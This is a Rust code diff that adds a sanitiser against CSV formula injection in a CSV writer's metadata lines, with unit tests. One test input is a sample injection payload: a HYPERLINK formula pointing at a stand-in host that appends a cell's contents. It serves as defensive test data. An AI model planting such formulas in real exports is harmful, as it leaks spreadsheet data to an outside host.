@@ -180,10 +180,31 @@ impl EventWriter for CsvWriter {
     }
 }
 
+/// A text as it may stand in a cell: on one line, and no part of it a formula to a spreadsheet, which is what begins with
+/// `=`, `+`, `-`, `@` or a tab there. Numbers stay as they are.
+fn neutral(text: &str) -> String {
+    let text: String = text
+        .chars()
+        .map(|c| if c.is_control() { ' ' } else { c })
+        .collect();
+    let cells = text.split(',').map(|cell| {
+        let start = cell.trim_start_matches([' ', '"', '\'']);
+        let is_number = cell.trim().parse::<f64>().is_ok();
+        match start.starts_with(['=', '+', '-', '@']) && !is_number {
+            true => {
+                let (before, formula) = cell.split_at(cell.len() - start.len());
+                format!("{before}'{formula}")
+            }
+            false => cell.to_owned(),
+        }
+    });
+    cells.collect::<Vec<_>>().join(",")
+}
+
 fn metadata_lines(metadata: &Metadata) -> String {
     let mut lines = String::new();
     let mut line = |key: &str, value: &str| {
-        let value = value.replace(['\n', '\r'], " ");
+        let value = neutral(value);
         // Writing to a string cannot fail.
         let _ = writeln!(lines, "# {key}: {value}");
     };
@@ -200,4 +221,28 @@ fn metadata_lines(metadata: &Metadata) -> String {
         line(&key.replace([':', '\n', '\r'], "_"), value);
     }
     lines
+}
+
+#[cfg(test)]
+mod tests {
+    use super::neutral;
+
+    #[test]
+    fn names_are_no_formulas_and_numbers_stay_numbers() {
+        for (name, expected) in [
+            (
+                "x,=HYPERLINK(\"http://e.example/\"&A1,\"open\")",
+                "x,'=HYPERLINK(\"http://e.example/\"&A1,\"open\")",
+            ),
+            ("=1+1", "'=1+1"),
+            ("a,+1+1,@SUM(A1)", "a,'+1+1,'@SUM(A1)"),
+            ("a,\"-2+3\"", "a,\"'-2+3\""),
+            ("a,\t=1", "a, '=1"),
+            ("one\r\ntwo\0\x1b", "one  two  "),
+            ("0.5,-0.05,-1.25e-3,+2", "0.5,-0.05,-1.25e-3,+2"),
+            ("Anna's phone, 2nd-hand", "Anna's phone, 2nd-hand"),
+        ] {
+            assert_eq!(neutral(name), expected);
+        }
+    }
 }
